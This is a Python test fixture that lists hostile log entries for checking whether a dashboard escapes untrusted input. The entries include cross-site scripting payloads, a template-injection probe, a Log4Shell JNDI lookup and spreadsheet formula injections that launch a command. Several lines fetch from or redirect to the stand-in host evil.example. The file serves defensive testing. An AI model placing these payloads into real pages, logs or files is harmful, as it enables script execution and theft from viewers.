"""Sixty names that somebody might write into a log to act on whoever looks at them."""

from tests.dashboard.test_names import HOSTILE

PAYLOADS = [
    *HOSTILE,
    "</script><script>fetch('http://evil.example')</script>",
    "</td></tr></table><script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<!--<script>--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/x}",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><button>OK</button></form>",
    "<base href=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "<ScRiPt\x00>alert(1)</sCrIpT>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example\")",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]  # fmt: skip
